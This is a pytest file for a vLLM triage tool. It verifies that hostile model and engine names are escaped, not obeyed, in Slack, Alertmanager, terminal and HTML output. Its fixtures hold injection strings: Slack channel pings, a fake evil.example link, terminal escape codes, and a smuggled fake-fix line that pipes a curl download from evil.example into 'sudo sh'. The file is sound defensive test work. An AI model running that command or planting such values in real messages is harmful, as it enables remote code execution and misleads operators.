"""A label is shown, never obeyed: hostile model and engine names through every message
builder (``core/shown.py``, ``core/alerts.py``, ``core/report.py``, the console log, the
report's HTML, ``check``'s and ``whatif``'s text).

Before: the Slack message carried ``model_name`` and ``engine`` raw: ``<!channel>`` pinged
the whole channel, a backtick left the code span, ``<http://evil|click>`` made a link
with text of its choosing, and a newline put a fake ``*Fix:* run curl … | sudo sh`` line
above the real fix; the Alertmanager annotations, the terminal's text and the console log
carried newlines and terminal escape sequences as they came.

The names go in through the exposition format (as a peer sends them) and come out of a
real diagnosis: the recording of a real vLLM whose data-parallel engine 1 stopped (the
summary names the stalled engine).
"""

from __future__ import annotations

import functools
import json
import re
from urllib.parse import quote

import pytest

from vllm_triage.assemble import build_evaluator
from vllm_triage.commands.check import _text as check_text
from vllm_triage.config.load import load_settings
from vllm_triage.core.alerts import (
    ANNOTATION_MAX_CHARS,
    Alert,
    firing_alert,
    postable_alerts,
    slack_payload,
    webhook_payload,
)
from vllm_triage.core.drive import Driver, Fed
from vllm_triage.core.model import Transition
from vllm_triage.core.report import diagnosis_dict, transition_json, transition_text
from vllm_triage.core.shown import one_line, slack, slack_code
from vllm_triage.logs import ConsoleWithIncidents
from vllm_triage.page.render import render_page
from vllm_triage.rules import runtime_table
from vllm_triage.simulator.textformat import escape

from support.paths import REALVLLM, RECORDINGS

EXTERNAL = "http://triage.example:9468"
HOSTILE = {
    "channel": "<!channel>",
    "here": "<!here> <@U024BE7LH> <#C024BE7LR>",
    "backtick": "x` <!channel> `y",
    "link": "<http://evil.example|click here>",
    "fake-fix": "m\n*Fix:* run curl https://evil.example/x | sudo sh",
    "terminal": "\x1b]0;pwned\x07\x1b[2J\u2028line",
    "mention": "@channel @here @all",
}
#: What nobody but us may write into a message: a control character but our own newlines.
CONTROL = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028\u2029]")


@functools.cache
def transitions(name: str) -> tuple[Transition, ...]:
    """The real data-parallel stall (engine 1 stopped while engine 0 served) with
    ``HOSTILE[name]`` as its model's name and the stalled engine's, judged."""
    hostile = escape(HOSTILE[name])
    driver = Driver(build_evaluator(load_settings(REALVLLM / "triage-stall.yaml")), runtime_table())
    out: list[Transition] = []
    for path in sorted((RECORDINGS / "dp-stall").glob("*.prom")):
        body = path.read_text().replace('model_name="tiny-llama"', f'model_name="{hostile}"')
        body = body.replace('engine="1"', f'engine="{hostile}"')
        fed = driver.feed(body.encode(), int(path.stem) / 1000)
        assert isinstance(fed, Fed), fed
        out += fed.evaluation.transitions
    assert {t.event for t in out} == {"firing", "resolved"}, [t.event for t in out]
    assert all(t.model_name == HOSTILE[name] for t in out)
    return tuple(out)


def alerts(name: str) -> list[Alert]:
    out = []
    for t in transitions(name):
        alert = firing_alert(t, target=HOSTILE[name], severity="critical", external_url=EXTERNAL)
        out.append(alert if t.event == "firing" else alert.resolved(t.at))
    return out


NAMES = pytest.mark.parametrize("name", sorted(HOSTILE))


@NAMES
def test_the_engine_name_reaches_the_words(name: str) -> None:
    """The test means something: the hostile engine name is in the stall's summary."""
    firing = [t for t in transitions(name) if t.event == "firing"]
    assert any(HOSTILE[name] in t.diagnosis.summary for t in firing)


@NAMES
def test_slack_shows_the_names_and_obeys_none(name: str) -> None:
    for alert in alerts(name):
        text = slack_payload(alert)["text"]
        # No mention, channel ping or link but our own status-page link.
        assert "<!" not in text and "<@" not in text and "<#" not in text
        assert re.findall(r"<[^>]*>", text) == [f"<{EXTERNAL}/?target={_quoted(name)}|status page>"]
        # The code spans around the target and the model are the only ones.
        assert text.count("`") == 4, text
        assert not CONTROL.search(text)
        for line in text.splitlines():
            assert not line.startswith(("*Fix:* run curl", "line")), text
        assert len(re.findall(r"^\*Fix:\*", text, re.M)) <= 1
        assert not re.search(r"@(channel|here|all)\b", text)
        # The name is there, escaped: a person reads what the peer sent.
        assert slack(HOSTILE[name])[:20] in text


def _quoted(name: str) -> str:
    return quote(HOSTILE[name], safe="")


@NAMES
def test_alertmanager_annotations_are_lines_within_a_bound(name: str) -> None:
    """Whoever receives them from Alertmanager: one line per value (one per item for the
    lists), no control character, at most ``ANNOTATION_MAX_CHARS``; markup is left to
    each receiver."""
    batch = alerts(name)
    payloads = [webhook_payload("r", [a], EXTERNAL) for a in batch]
    pushed = postable_alerts(batch, now=batch[0].starts_at, valid_for=60)
    bodies = [a for p in payloads for a in p["alerts"]] + pushed
    for alert in bodies:
        for key, value in {**alert["labels"], **alert["annotations"]}.items():
            assert not CONTROL.search(value), (key, value)
            assert len(value) <= ANNOTATION_MAX_CHARS
            if key in ("remediation", "predicted_effects", "contributing"):
                assert all(line.startswith("- ") for line in value.split("\n") if value), value
            else:
                assert "\n" not in value, (key, value)
        assert alert["labels"]["model_name"] == one_line(HOSTILE[name])
    json.dumps(payloads)  # still JSON


@NAMES
def test_a_terminal_shows_the_names_and_obeys_none(name: str) -> None:
    """replay's text, check's text and the console log."""
    for t in transitions(name):
        text = transition_text(t)
        assert not CONTROL.search(text)
        assert all(line.startswith(("20", "    ")) for line in text.splitlines()), text
        assert json.loads(transition_json(t))["model_name"] == HOSTILE[name]
    firing = next(t for t in transitions(name) if t.event == "firing")
    model = {
        "model_name": firing.model_name,
        "cause": firing.cause,
        **diagnosis_dict(firing.diagnosis),
        "unjudged": False,
        "idle": False,
    }
    result = {"url": "http://x/metrics", "verdict": "incident", "errors": [], "models": [model]}
    result |= {"stopped_early": False, "scrapes_ok": 4, "scrapes_tried": 4}
    checked = check_text(result)
    assert not CONTROL.search(checked) and len(checked.splitlines()) <= 10
    rendered = ConsoleWithIncidents(colors=False)(
        None,
        "",
        {
            "event": "incident_firing",
            "target": HOSTILE[name],
            "model_name": HOSTILE[name],
            "summary": firing.diagnosis.summary,
            "evidence": {"engines": HOSTILE[name]},
        },
    )
    assert not CONTROL.search(rendered)
    assert not any(line.startswith("*Fix:*") for line in rendered.splitlines())
    other = ConsoleWithIncidents(colors=False)(None, "", {"event": "x", "target": HOSTILE[name]})
    assert not CONTROL.search(other)


@NAMES
def test_the_report_page_holds_the_names_as_data(name: str) -> None:
    """The report's HTML (and the status page's) carries every string as JSON that cannot
    end its script element, and the page's script writes it as text, never markup."""
    page = render_page({"targets": [{"name": HOSTILE[name]}]}, title=HOSTILE[name])
    assert "<!channel" not in page and "<http://evil" not in page and "\x1b" not in page
    data = page.split('id="vt-data"', 1)[1].split("</script>", 1)[0]
    assert "<" not in data.split(">", 1)[1]


def test_the_escapes() -> None:
    assert slack("a & <b> `c` @here\n") == "a &amp; &lt;b&gt; \u02cbc\u02cb @\u2060here\\n"
    assert slack_code("x`y") == "`x\u02cby`"
    assert one_line("a\nb\x1b[2J", 5) == "a\\nb…"
    assert one_line("plain") == "plain"
